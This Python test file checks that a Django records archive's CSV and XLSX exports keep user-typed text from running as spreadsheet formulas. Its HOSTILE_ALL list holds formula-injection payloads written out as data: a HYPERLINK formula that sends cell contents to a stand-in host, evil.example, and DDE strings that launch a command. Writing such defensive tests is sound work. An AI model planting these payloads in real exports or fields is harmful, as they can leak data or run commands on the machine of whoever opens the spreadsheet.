"""Spreadsheet formula injection (OWASP CSV injection): every CSV and XLSX the archive writes
keeps hostile text as text (issue 14, Leaks). The URL walk fails when an export is added
without being listed here."""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from records_dms.accounts import roles
from records_dms.accounts.services import grant_create
from records_dms.archive.models import ComplaintChannel
from records_dms.archive.services import complaint_open, complaint_update, customer_update
from records_dms.common.cells import FORMULA_STARTS, csv_text
from records_dms.lending.exports import register_csv, register_entries
from records_dms.lending.services import loan_approve, loan_check_out, loan_request
from tests.conftest import client_for
from tests.factories import make_record
from tests.lending.helpers import signature_png

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
HOSTILE_ALL = [
    HOSTILE,
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# export url name -> (kwargs key, formats that are spreadsheets)
EXPORTS: dict[str, tuple[str, tuple[str, ...]]] = {
    "reports:complaints_export": ("", ("csv", "xlsx")),
    "reports:catalogue_export": ("customer", ("xlsx",)),
    "reports:summary_export": ("", ("xlsx",)),
    "lending:register_export": ("", ("csv",)),
}


def export_url_names() -> set[str]:
    names: set[str] = set()

    def walk(patterns: list[Any], namespace: str) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, inner)
            elif isinstance(pattern, URLPattern) and pattern.name and "export" in pattern.name:
                names.add(f"{namespace}{pattern.name}")

    walk(get_resolver().url_patterns, "")
    return names


def test_every_export_url_is_walked() -> None:
    assert export_url_names() == set(EXPORTS)


@pytest.mark.parametrize("value", HOSTILE_ALL)
def test_formula_like_text_is_quoted_for_csv(value: str) -> None:
    assert csv_text(value) == "'" + value
    assert csv_text("投诉 = 1") == "投诉 = 1" and csv_text(None) == ""


@pytest.fixture
def hostile_world(users: dict[str, Any], customer: Any, clerk: Any) -> Any:
    """Hostile text wherever a user can type it and an export shows it."""
    customer_update(customer=customer, actor=clerk, name=HOSTILE_ALL[1])
    case = complaint_open(
        customer=customer,
        channel=ComplaintChannel.DIRECT,
        subject=HOSTILE,
        opened_on=datetime.date(2024, 5, 6),
        actor=clerk,
    )
    complaint_update(
        complaint=case, closed_on=datetime.date(2024, 5, 9), outcome=HOSTILE_ALL[2], actor=clerk
    )
    record = make_record(customer, title=HOSTILE_ALL[3], actor=clerk)
    staff = users[roles.STAFF]
    grant_create(user=staff, customer=customer, actor=clerk)
    loan = loan_request(actor=staff, items=[(record, "paper")], purpose=HOSTILE_ALL[4])
    loan_approve(loan=loan, actor=clerk)
    loan_check_out(loan=loan, actor=clerk, signature=signature_png())
    return customer


def _csv_fields(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    return [field for row in rows for field in row]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_csv_safe(data: bytes) -> list[str]:
    fields = _csv_fields(data)
    for field in fields:
        assert not field.startswith(FORMULA_STARTS) or _number(field), field
    return fields


def _assert_xlsx_safe(data: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return texts


@pytest.mark.django_db
def test_every_export_keeps_hostile_text_as_text(users: dict[str, Any], hostile_world: Any) -> None:
    customer = hostile_world
    client = client_for(users[roles.AUDITOR])
    seen: list[str] = []
    for name, (key, formats) in EXPORTS.items():
        url = reverse(name, args=[customer.pk] if key == "customer" else [])
        for file_format in formats:
            response = client.get(url, {"format": file_format, "year": "2024"})
            assert response.status_code == 200, (name, file_format)
            assert response["Content-Disposition"].startswith("attachment;")
            if file_format == "csv":
                seen += _assert_csv_safe(response.content)
            else:
                seen += _assert_xlsx_safe(response.content)
    text = "\n".join(seen)
    # The hostile values did reach the exports, quoted (CSV) or as quote-prefixed text (XLSX).
    assert "'" + HOSTILE in text and HOSTILE in text.replace("'" + HOSTILE, "")
    assert "'" + HOSTILE_ALL[2] in text and HOSTILE_ALL[3] in text
    # The CLI's register export is the same writer.
    fields = _assert_csv_safe(register_csv(register_entries(start=None, end=None)))
    assert any(HOSTILE_ALL[4].strip() in f for f in fields)
